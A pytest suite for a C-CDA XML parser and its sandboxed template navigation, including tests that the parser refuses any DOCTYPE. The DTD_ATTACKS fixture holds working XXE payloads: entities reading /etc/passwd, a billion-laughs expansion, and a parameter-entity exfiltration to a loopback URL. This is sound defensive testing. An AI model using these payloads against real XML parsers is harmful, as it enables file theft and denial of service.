"""XML sources: safe parsing of C-CDA and the XmlNode navigation templates rely on."""

from __future__ import annotations

import glob
import re
from pathlib import Path

import pytest
from jinja2 import StrictUndefined
from jinja2.exceptions import SecurityError
from jinja2.sandbox import SandboxedEnvironment

from mappings.engine import xmlsource
from mappings.engine.errors import ErrorCode, MappingError
from mappings.engine.xmlsource import XmlNode, parse_xml

CORPUS = Path("/work/shared/corpus")
CCD = CORPUS / "fhir-converter/ccda/CCD.ccda"
CCDA_FILES = sorted(glob.glob(str(CORPUS / "fhir-converter/ccda/*.ccda")))

ALLERGIES_SECTION = "2.16.840.1.113883.10.20.22.2.6.1"
ALLERGY_OBSERVATION = "2.16.840.1.113883.10.20.22.4.7"

# Strict undefined, as the engine renders: any name resolving to undefined fails the test loudly.
ENV = SandboxedEnvironment(undefined=StrictUndefined)

SMALL = b"""<?xml version="1.0" encoding="UTF-8"?>
<root xmlns="urn:hl7-org:v3" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:sdtc="urn:hl7-org:sdtc"
      code="root-attr" type="plain-type">
  <!-- comments are dropped by the parser -->
  <a n="0"/>
  <a n="1"><b>one</b></a>
  <a n="2"><b>two</b><b>three</b></a>
  <code code="C1" codeSystem="2.16.840.1.113883.6.1"/>
  <value xsi:type="PQ" value="5.4" unit="mg/dL"/>
  <sdtc:raceCode code="2114-7"/>
  <raceCode code="2106-3"/>
  <p>  Hello,
\t  <b>big</b>
     world\xc2\xa0!  </p>
</root>
"""


@pytest.fixture(scope="module")
def ccd() -> XmlNode:
    return parse_xml(CCD.read_bytes())


@pytest.fixture(scope="module")
def small() -> XmlNode:
    return parse_xml(SMALL)


def render(source: str, **context: object) -> str:
    return ENV.from_string(source).render(**context)


def refusal(data: bytes | str) -> MappingError:
    with pytest.raises(MappingError) as caught:
        parse_xml(data)
    return caught.value


# -- C-CDA navigation, as templates write it --------------------------------------------------------------------

PATIENT = "doc.recordTarget.patientRole.patient"
ALLERGIES = f'doc.section("{ALLERGIES_SECTION}")'


@pytest.mark.parametrize(
    ("template", "expected"),
    [
        (f"{{{{ {PATIENT}.name.given }}}}", "Isabella"),
        (f"{{{{ {PATIENT}.name.family }}}}", "Jones"),
        (f"{{{{ {PATIENT}.name }}}}", "Isabella Jones"),
        (f"{{{{ {PATIENT}.name.use }}}}", "L"),
        (f"{{{{ {PATIENT}.birthTime.value }}}}", "19501219"),
        (f"{{{{ {PATIENT}.administrativeGenderCode.code }}}}", "F"),
        (f"{{{{ {PATIENT}.administrativeGenderCode.codeSystem }}}}", "2.16.840.1.113883.5.1"),
        (f'{{{{ {PATIENT}["sdtc:raceCode"].displayName }}}}', "Italian"),
        (f"{{{{ {PATIENT}.raceCode.displayName }}}}", "White"),
        ("{{ doc.recordTarget.patientRole.all('id')|map(attribute='extension')|join(',') }}", "98765432,12345679"),
        ("{{ doc.id.root }}", "be84a8e4-a22e-4210-a4a6-b3c48273e84c"),
        ("{{ doc.code.code }}", "34133-9"),
        ("{{ doc.effectiveTime.value }}", "20141015103026-0500"),
        (f"{{{{ {ALLERGIES}.title }}}}", "ALLERGIES AND ADVERSE REACTIONS"),
        (f"{{{{ {ALLERGIES}.code.code }}}}", "48765-2"),
        (f'{{{{ {ALLERGIES}.all("entry")|length }}}}', "1"),
        (f"{{{{ {ALLERGIES}.entry.act.statusCode.code }}}}", "active"),
        (f"{{{{ {ALLERGIES}.entry.act.entryRelationship.observation.value.code }}}}", "419199007"),
        (f"{{{{ {ALLERGIES}.entry.act.entryRelationship.observation.value.type }}}}", "CD"),
        (f"{{{{ {ALLERGIES}.entry.act.entryRelationship.observation.negationInd }}}}", "true"),
        # C-CDA publishes both ...2.6 and ...2.6.1; only the oid asked for matches.
        ('{{ doc.section("2.16.840.1.113883.10.20.22.2.6").exists }}', "False"),
        # `section` is both the child element and the lookup by template id.
        (
            "{% for c in doc.component.structuredBody.all('component') %}{{ c.section.title }}|{% endfor %}",
            "ALLERGIES AND ADVERSE REACTIONS|MEDICATIONS|PROBLEMS|PROCEDURES|RESULTS|SOCIAL HISTORY|"
            "Vital Signs (Last Filed)|",
        ),
        (f'{{{{ doc.by_template("{ALLERGY_OBSERVATION}")[0].code.code }}}}', "ASSERTION"),
        ('{{ doc.xpath("count(cda:component/cda:structuredBody/cda:component)") }}', "7.0"),
        ('{{ doc.xpath("cda:recordTarget/cda:patientRole/cda:patient/cda:birthTime/@value")[0] }}', "19501219"),
        ('{{ doc.first("recordTarget/patientRole/patient/name/family").qualifier }}', "SP"),
        ("{{ doc.no.such.path.at.last }}", ""),
        ('{{ doc.no.such or "fallback" }}', "fallback"),
        ('{{ doc.legalAuthenticator.nope|default("fallback", true) }}', "fallback"),
    ],
)
def test_it_navigates_the_ccd_from_a_sandboxed_template(ccd: XmlNode, template: str, expected: str) -> None:
    assert render(template, doc=ccd) == expected


def test_it_finds_the_allergies_section_and_its_entries_by_template_id(ccd: XmlNode) -> None:
    section = ccd.section(ALLERGIES_SECTION)
    assert section.tag == "section"
    assert section["templateId"]["root"] == ALLERGIES_SECTION
    assert [node.tag for node in ccd.by_template(ALLERGIES_SECTION)] == ["section"]
    entries = section.all("entry")
    assert [entry["typeCode"] for entry in entries] == ["DRIV"]
    observations = section.by_template(ALLERGY_OBSERVATION)
    assert [node["id"]["root"] for node in observations] == ["4adc1020-7b14-11db-9fe1-0800200c9a66"]
    assert observations[0].parent.parent.parent == entries[0]


def test_it_hides_private_names_from_templates(ccd: XmlNode) -> None:
    assert render("{{ doc._el is defined }}", doc=ccd) == "False"
    with pytest.raises(SecurityError):
        render("{{ doc._el }}", doc=ccd)


def test_it_answers_an_index_with_undefined_rather_than_the_nth_child(ccd: XmlNode) -> None:
    assert render("{{ doc[0] is defined }}", doc=ccd) == "False"
    with pytest.raises(TypeError):
        ccd[0]


# -- name resolution --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        (["code"], "<element code>"),  # the child element wins over the root's code attribute
        (["code", "code"], "C1"),  # then the attribute, the code element having no <code> child
        (["code", "codeSystem"], "2.16.840.1.113883.6.1"),
        (["value", "value"], "5.4"),
        (["value", "unit"], "mg/dL"),
        (["value", "type"], "PQ"),  # xsi:type by its local name
        (["value", "xsi:type"], "PQ"),
        (["type"], "plain-type"),  # a plain attribute named like an xsi one
        (["raceCode", "code"], "2114-7"),  # namespaces ignored: the first raceCode in document order
        (["sdtc:raceCode", "code"], "2114-7"),
        (["cda:raceCode", "code"], "2106-3"),  # a prefix picks one namespace
        (["nope:raceCode"], ""),  # an unknown prefix matches nothing
        (["code", "missing"], ""),
    ],
)
def test_it_resolves_a_name_to_a_child_then_an_attribute(small: XmlNode, path: list[str], expected: str) -> None:
    value: XmlNode | str = small
    for name in path:
        value = value[name]
    if expected == "<element code>":
        assert isinstance(value, XmlNode)
        assert value.tag == "code"
        assert value.exists
    elif expected:
        assert type(value) is str
        assert value == expected
    else:
        assert isinstance(value, XmlNode)
        assert not value.exists


def test_it_reaches_children_named_like_the_api_by_subscript() -> None:
    doc = parse_xml(b"<r><first>1</first><all>2</all><tag>3</tag><section>4</section></r>")
    assert render("{{ d['first'] }}{{ d['all'] }}{{ d['tag'] }}{{ d.section }}", d=doc) == "1234"
    assert render("{{ d.tag }}", d=doc) == "r"  # the attribute syntax gets the API name


def test_it_reaches_an_attribute_shadowed_by_a_child_with_attr(small: XmlNode) -> None:
    assert small["code"].tag == "code"
    assert small.attr("code") == "root-attr"
    assert small["value"].attr("xsi:type") == "PQ"
    assert small["value"].attr("type") == "PQ"
    assert small["value"].attr("nope:type") == ""
    assert small["value"].attr("missing") == ""
    assert small["value"].attrs == {"type": "PQ", "value": "5.4", "unit": "mg/dL"}
    assert small.attrs["type"] == "plain-type"  # the plain attribute wins the clash with xsi:type


# -- the empty node ----------------------------------------------------------------------------------------------


def test_it_makes_a_missing_chain_an_empty_node_that_never_raises(small: XmlNode) -> None:
    empty = small["a"]["zz"]["y"]["x"]["w"]
    assert isinstance(empty, XmlNode)
    checks = {
        "bool": (bool(empty), False),
        "exists": (empty.exists, False),
        "str": (str(empty), ""),
        "eq": (empty == "", True),
        "tag": (empty.tag, ""),
        "xml": (empty.xml, ""),
        "attr": (empty.attr("n"), ""),
        "attrs": (empty.attrs, {}),
        "all": (empty.all(), []),
        "all named": (empty.all("b"), []),
        "first": (empty.first("b/c").exists, False),
        "find_all": (empty.find_all("b/c"), []),
        "by_template": (empty.by_template(ALLERGIES_SECTION), []),
        "section": (empty.section.exists, False),
        "section()": (empty.section(ALLERGIES_SECTION).exists, False),
        "xpath": (empty.xpath("cda:b"), []),
        "parent": (empty.parent.exists, False),
        "len": (len(empty), 0),
        "iter": (list(empty), []),
    }
    assert {name: actual for name, (actual, _) in checks.items()} == {
        name: expected for name, (_, expected) in checks.items()
    }


@pytest.mark.parametrize("name", ["", "{", "}", "{urn:hl7-org:v3}a", "a b", ":", "xsi:", ":a", "1", "\x00", "é"])
def test_it_treats_a_name_no_element_can_have_as_a_miss(small: XmlNode, name: str) -> None:
    assert isinstance(small[name], XmlNode)
    assert not small[name]
    assert small.attr(name) == ""
    assert small.all(name) == []
    if name:  # an empty path step is skipped, so "a/" is just "a"
        assert small.find_all(f"a/{name}") == []


def test_it_keeps_an_element_without_children_truthy(small: XmlNode) -> None:
    code = small["code"]
    assert len(code) == 0
    assert bool(code) is True


# -- all / first / find_all ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("call", "expected"),
    [
        (lambda n: [a.attr("n") for a in n.all("a")], ["0", "1", "2"]),
        (lambda n: [c.tag for c in n.all()], ["a", "a", "a", "code", "value", "raceCode", "raceCode", "p"]),
        (lambda n: n.all("zz"), []),
        (lambda n: [str(b) for b in n.all("a")[2].all("b")], ["two", "three"]),
        # the first a has no b: first() follows the path through every a, in document order
        (lambda n: str(n.first("a/b")), "one"),
        (lambda n: str(n.first("/a//b/")), "one"),  # empty steps are ignored
        (lambda n: str(n.first("*/b")), "one"),
        (lambda n: n.first("a/zz").exists, False),
        (lambda n: n.first("").tag, "root"),
        (lambda n: [str(b) for b in n.find_all("a/b")], ["one", "two", "three"]),
        (lambda n: [b.parent.attr("n") for b in n.find_all("*/b")], ["1", "2", "2", ""]),
        (lambda n: [r.attr("code") for r in n.find_all("sdtc:raceCode")], ["2114-7"]),
        (lambda n: n.find_all("a/b/zz"), []),
        (lambda n: [child.tag for child in n["a"]], []),
        (lambda n: [child.tag for child in n.all("a")[2]], ["b", "b"]),
        (lambda n: len(n), 8),
        (lambda n: str(n["p"]), "Hello, big world\u00a0!"),
    ],
)
def test_it_lists_and_walks_children(small: XmlNode, call, expected) -> None:
    assert call(small) == expected


# -- text, equality, serialization -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("xml", "expected"),
    [
        (b"<p>  Hello,\n\t  <b>big</b>\n     world  </p>", "Hello, big world"),
        (b"<p><b>x</b><i>y</i></p>", "xy"),  # no space is invented between adjacent elements
        (b"<p>a\xc2\xa0\xc2\xa0b</p>", "a\u00a0\u00a0b"),  # a no-break space is content, not layout
        (b"<p>a<!-- note -->b<?pi x?>c</p>", "abc"),
        (b"<p>a &amp; b &lt; c</p>", "a & b < c"),
        (b"<p><![CDATA[ <raw>  text ]]></p>", "<raw> text"),
        (b"<p/>", ""),
    ],
)
def test_it_renders_text_content_whitespace_normalised(xml: bytes, expected: str) -> None:
    node = parse_xml(xml)
    assert str(node) == expected
    assert node == expected
    assert render("{{ node }}", node=node) == expected


def test_it_compares_nodes_by_text_and_hashes_consistently(small: XmlNode) -> None:
    two, three = small.all("a")[2].all("b")
    assert two == "two"
    assert two != "three"
    assert two == parse_xml(b"<b>two</b>")
    assert two != three
    assert hash(two) == hash("two")
    assert len({two, parse_xml(b"<x>two</x>"), three}) == 2
    assert (two == 2) is False


def test_it_serializes_an_element_for_narrative(ccd: XmlNode) -> None:
    text = ccd.section(ALLERGIES_SECTION)["text"]
    xml = text.xml
    assert xml.startswith("<text ")
    assert "<paragraph>No known allergies</paragraph>" in xml
    assert "<entry" not in xml  # no tail, no siblings
    assert str(parse_xml(xml)) == "No known allergies"


def test_it_reports_tag_parent_and_repr(small: XmlNode) -> None:
    b = small.first("a/b")
    assert b.tag == "b"
    assert b.parent.tag == "a"
    assert b.parent.parent.tag == "root"
    assert small.parent.exists is False
    assert repr(b) == "<XmlNode b>"
    assert repr(small["zz"]) == "<XmlNode (empty)>"


# -- xpath and by_template ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("expr", "expected"),
    [
        ("cda:a/@n", ["0", "1", "2"]),
        ("count(cda:a)", 3.0),
        ("boolean(cda:code)", True),
        ("boolean(cda:nope)", False),
        ("string(cda:a[2]/cda:b)", "one"),
        ("cda:a/cda:b/text()", ["one", "two", "three"]),
        ("sdtc:raceCode/@code", ["2114-7"]),
        ("cda:value/@xsi:type", ["PQ"]),
        ("a", []),  # unprefixed names are in no namespace; C-CDA elements are in cda
        ("cda:a[cda:b='two']/@n", ["2"]),
    ],
)
def test_it_evaluates_xpath_with_the_cda_prefixes(small: XmlNode, expr: str, expected: object) -> None:
    result = small.xpath(expr)
    assert result == expected
    assert type(result) is type(expected)
    if isinstance(result, list):
        # plain str, not lxml's "smart" strings that carry getparent() back into the raw tree
        assert all(type(item) is str for item in result)


def test_it_wraps_xpath_elements_as_nodes(small: XmlNode) -> None:
    found = small.xpath("cda:a[@n='2']/cda:b")
    assert [type(node) for node in found] == [XmlNode, XmlNode]
    assert [str(node) for node in found] == ["two", "three"]
    assert found[0].parent.attr("n") == "2"


@pytest.mark.parametrize("expr", ["cda:a[", "nope:a", "$undefined", "no-such-function()", "", "///"])
def test_it_refuses_invalid_xpath_as_filter_input(small: XmlNode, expr: str) -> None:
    with pytest.raises(MappingError) as caught:
        small.xpath(expr)
    assert caught.value.error is ErrorCode.RND_FILTER_INPUT
    assert caught.value.stage.value == "render"
    assert caught.value.code == "FS-RND-002"
    assert repr(expr) in caught.value.message


def test_it_finds_elements_by_template_at_any_depth_but_not_itself() -> None:
    doc = parse_xml(
        b"""<doc xmlns="urn:hl7-org:v3">
          <templateId root="1.1"/>
          <x><templateId root="1.1"/><templateId root="1.1" extension="2015"/>
             <y><z><templateId root="1.1"/></z></y></x>
          <w><templateId root="1.1.1"/></w>
          <v><templateId extension="1.1"/></v>
        </doc>"""
    )
    assert [node.tag for node in doc.by_template("1.1")] == ["x", "z"]  # once each, in document order
    assert [node.tag for node in doc.by_template("1.1.1")] == ["w"]
    assert doc.by_template("1") == []
    assert doc.first("x/y/z").by_template("1.1") == []


def test_it_finds_a_section_by_exact_template_id() -> None:
    doc = parse_xml(
        b"""<ClinicalDocument xmlns="urn:hl7-org:v3"><component><structuredBody>
          <component><section><templateId root="2.6"/><title>short</title></section></component>
          <component><section><templateId root="2.6.1"/><title>long</title></section></component>
          <component><observation><templateId root="2.7"/></observation></component>
        </structuredBody></component></ClinicalDocument>"""
    )
    assert str(doc.section("2.6")["title"]) == "short"
    assert str(doc.section("2.6.1")["title"]) == "long"
    assert doc.section("2.7").exists is False  # not a section
    assert doc.section("2").exists is False
    component = doc.first("component/structuredBody/component")
    assert str(component.section["title"]) == "short"
    assert component.section("2.6.1").exists is False  # searches below the node it was reached from


# -- parsing: malformed input ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "where"),
    [
        (CCD.read_bytes()[: len(CCD.read_bytes()) // 2], "line "),
        (b"<a>\n  <b>\n</a>", "line 3, column 5"),
        (b"<a><b></a></b>", "line 1"),
        (bytes(range(256)) * 4, "line 1"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "line 1"),
        (b"", "line 1"),
        ("", "line 1"),
        (b"   \n  ", "line 2"),
        (b"just text", "line 1, column 1"),
        (b"<r>&nbsp;</r>", "line 1, column 10"),
        (b"<r/><r/>", "line 1"),
        (b"<!-- never closed", "line 1"),
        (b"<a>" * 300 + b"</a>" * 300, "line 1"),  # deeper than libxml2 allows without huge_tree
        ((CORPUS / "more/ccda/hl7-snippet-results-section-bmp-troponin.xml").read_bytes(), "line 133, column 53"),
        ("<r>\ud800</r>", "Unicode"),
    ],
    ids=[
        "truncated",
        "mismatched",
        "crossed",
        "binary",
        "png",
        "empty-bytes",
        "empty-str",
        "whitespace",
        "text",
        "undeclared-entity",
        "two-roots",
        "open-comment",
        "too-deep",
        "undeclared-xsi-prefix",
        "lone-surrogate",
    ],
)
def test_it_refuses_malformed_xml_with_its_location(data: bytes | str, where: str) -> None:
    error = refusal(data)
    assert error.error is ErrorCode.XML_INVALID
    assert error.code == "FS-SRC-030"
    assert where in error.message


# -- parsing: DTDs and entities ---------------------------------------------------------------------------------

LOL = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))

DTD_ATTACKS = {
    "internal-entity": b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x "expanded">]><r>&x;</r>',
    "billion-laughs": f'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">{LOL}]><lolz>&lol9;</lolz>'.encode(),
    "external-entity": b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>',
    "external-entity-in-attribute": (b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r a="&xxe;">&xxe;</r>'),
    "external-dtd": b'<?xml version="1.0"?><!DOCTYPE r SYSTEM "file:///etc/passwd"><r/>',
    "external-dtd-network": b'<!DOCTYPE r PUBLIC "-//X//DTD X//EN" "http://127.0.0.1:9/x.dtd"><r/>',
    "parameter-entity": (b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]><r/>'),
    "parameter-entity-exfiltration": (
        b'<!DOCTYPE r [<!ENTITY % f SYSTEM "file:///etc/passwd">'
        b"<!ENTITY % w \"<!ENTITY &#x25; s SYSTEM 'http://127.0.0.1:9/?%f;'>\"> %w; %s;]><r/>"
    ),
    "lowercase-doctype": b"<!doctype r><r/>",
    "bare-doctype": b"<!DOCTYPE r><r/>",
    "entity-without-doctype": b'<!ENTITY x "y"><r/>',
    "after-bom": b'\xef\xbb\xbf<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x "y">]><r>&x;</r>',
    "after-long-comment": b"<!--" + b"pad " * 500_000 + b"-->\n<?pi?>\n<!DOCTYPE r [<!ENTITY x 'y'>]><r>&x;</r>",
    "utf-16": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY x "y">]><r>&x;</r>'.encode("utf-16"),
    "utf-16-no-bom": '<?xml version="1.0" encoding="UTF-16LE"?><!DOCTYPE r><r/>'.encode("utf-16-le"),
    "str-input": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
}


@pytest.mark.parametrize("data", list(DTD_ATTACKS.values()), ids=list(DTD_ATTACKS))
def test_it_refuses_any_doctype(data: bytes | str) -> None:
    error = refusal(data)
    assert error.error is ErrorCode.XML_DTD_REFUSED
    assert error.code == "FS-SRC-031"
    assert error.stage.value == "source"
    passwd_lines = [line for line in Path("/etc/passwd").read_text().splitlines() if line]
    assert passwd_lines, "the leak check needs something to look for"
    leaked = str(error) + repr(error.as_dict())
    assert not any(line in leaked for line in passwd_lines)
    assert "root:" not in leaked


def test_it_does_not_mistake_a_quoted_doctype_in_the_body_for_one() -> None:
    doc = parse_xml(b'<text mediaType="text/html"><![CDATA[<!DOCTYPE html><p>hi</p>]]></text>')
    assert str(doc) == "<!DOCTYPE html><p>hi</p>"


# -- parsing: good input ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", CCDA_FILES, ids=[Path(path).name for path in CCDA_FILES])
def test_it_parses_every_corpus_ccda(path: str) -> None:
    raw = Path(path).read_bytes()
    doc = parse_xml(raw)
    assert doc.tag == "ClinicalDocument"
    assert doc["typeId"]["extension"] == "POCD_HD000040"
    assert doc["templateId"]["root"].startswith("2.16.840.1.113883.10.20.22.1.")  # a C-CDA document template
    assert doc["recordTarget"]["patientRole"].exists
    # Every <section> in the text (outside comments) is reachable, and section() finds each one's template id.
    sections = doc.xpath("//cda:section")
    assert len(sections) == len(re.findall(rb"<section[\s>]", re.sub(rb"<!--.*?-->", b"", raw, flags=re.DOTALL)))
    for section in doc.find_all("component/structuredBody/component/section"):
        oid = section["templateId"]["root"]
        if not oid:  # a section without a template id, as the imaging report has
            continue
        assert oid in [template.attr("root") for template in doc.section(oid).all("templateId")]


def test_it_has_ten_corpus_ccda_files() -> None:
    assert len(CCDA_FILES) == 10


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        ("<?xml version='1.0' encoding='ISO-8859-1'?><r>caf\u00e9</r>", "caf\u00e9"),  # str: declaration ignored
        ("<?xml version='1.0' encoding='ISO-8859-1'?><r>caf\u00e9</r>".encode("iso-8859-1"), "caf\u00e9"),
        ("\ufeff<r>bom</r>", "bom"),
        (b"\xef\xbb\xbf<r>bom</r>", "bom"),
        ('<?xml version="1.0" encoding="UTF-16"?><r>\u00e9</r>'.encode("utf-16"), "\u00e9"),
        (bytearray(b"<r>ba</r>"), "ba"),
        (memoryview(b"<r>mv</r>"), "mv"),
        (b'<?xml-stylesheet type="text/xsl" href="CDA.xsl"?>\n<!-- c --><r>pi</r>', "pi"),
    ],
)
def test_it_parses_text_and_bytes_in_any_declared_encoding(data: object, expected: str) -> None:
    assert str(parse_xml(data)) == expected


def test_it_rejects_a_non_text_argument_as_a_programming_error() -> None:
    with pytest.raises(TypeError):
        parse_xml(42)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("name", "code"),
    [
        ("internal-entity", "FS-SRC-031"),
        ("external-entity", "FS-SRC-031"),
        ("external-dtd", "FS-SRC-031"),
        ("external-dtd-network", "FS-SRC-031"),
        ("parameter-entity", "FS-SRC-031"),
        # libxml2 itself stops these mid-parse, before the docinfo check can look
        ("billion-laughs", "FS-SRC-030"),
        ("parameter-entity-exfiltration", "FS-SRC-030"),
        ("external-entity-in-attribute", "FS-SRC-030"),
    ],
)
def test_it_still_refuses_a_doctype_the_prolog_scan_missed(
    monkeypatch: pytest.MonkeyPatch, name: str, code: str
) -> None:
    # Encodings the scan cannot read (EBCDIC, say) reach the parser: nothing may be loaded or expanded, and what
    # parses must still be refused.
    monkeypatch.setattr(xmlsource, "_declares_dtd_bytes", lambda raw: False)
    error = refusal(DTD_ATTACKS[name])
    assert error.code == code
    assert "root:" not in str(error)
    assert "lollol" not in str(error)


# -- a name finds what lxml's own tag filter finds first, else the attribute ----------------------------------------

INDEXED = b"""<r xmlns="urn:hl7-org:v3" xmlns:sdtc="urn:hl7-org:sdtc" xmlns:o="urn:other" code="attr">
  <o:x n="1"/><!-- c --><x n="2"/><sdtc:x n="3"/><y n="4"/><o:y n="5"/><none xmlns="" n="6"/><x n="7"/>
</r>"""


def _first_by_lxml(node: XmlNode, name: str):
    """What a name means: the first match of lxml's tag filter, else the attribute, else nothing."""
    pattern = xmlsource._tag_pattern(name)
    if pattern is not None:
        try:
            for child in node._el.iterchildren(pattern):
                return child
        except ValueError:
            pass
    return xmlsource._attribute(node._el, name)


@pytest.mark.parametrize(
    "name",
    [
        "x",
        "y",
        "none",
        "*",
        "cda:x",
        "cda:*",
        "sdtc:x",
        "sdtc:*",
        "o:x",
        "cda:none",
        "code",
        "n",
        "z",
        "",
        "a b",
        "{urn:other}x",
        "cda:",
        "::",
    ],
)
def test_a_name_finds_what_the_tag_filter_finds(name):
    root = parse_xml(INDEXED)
    expected = _first_by_lxml(root, name)
    found = root[name]
    if expected is None:
        assert found is xmlsource._EMPTY
    elif isinstance(expected, str):
        assert found == expected and isinstance(found, str)
    else:
        assert found._el is expected


def test_names_match_lxml_on_entries_of_the_corpus():
    names = ("code", "value", "id", "entry", "*", "cda:*", "sdtc:*", "nullFlavor", "templateId", "section", "sdtc:id")
    checked = 0
    for path in CCDA_FILES[:4]:
        root = parse_xml(Path(path).read_bytes())
        for node in [root, *root.find_all("component/structuredBody/component/section/entry")]:
            for name in {*names, *(child.tag.rpartition("}")[2] for child in node._el.iterchildren("{*}*"))}:
                expected, found = _first_by_lxml(node, name), node[name]
                assert (found._el if isinstance(found, XmlNode) else found) == expected or (
                    expected is None and found is xmlsource._EMPTY
                ), (path, name)
                checked += 1
    assert checked > 500
